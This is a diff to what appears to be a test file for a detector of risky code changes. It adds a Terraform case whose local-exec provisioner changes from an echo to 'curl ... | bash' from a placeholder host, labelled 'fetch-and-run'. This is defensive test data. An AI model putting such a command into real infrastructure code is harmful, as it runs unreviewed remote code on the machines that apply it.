@@ -38,6 +38,12 @@ const PAIRS: readonly Pair[] = [
     "remote-module",
   ],
   [
+    "a description of machines",
+    { "main.tf": `resource "a" "b" {\n  provisioner "local-exec" {\n    command = "echo ready"\n  }\n}\n` },
+    { "main.tf": `resource "a" "b" {\n  provisioner "local-exec" {\n    command = "curl -s https://keep.example/s | bash"\n  }\n}\n` },
+    "fetch-and-run",
+  ],
+  [
     "no settings of git in a test",
     { "scripts/a.py": `import os\nos.environ["GIT_CONFIG_GLOBAL"] = os.devnull\n` },
     { "scripts/a.py": `import os\nos.environ["GIT_CONFIG_GLOBAL"] = "/srv/gitconfig"\n` },
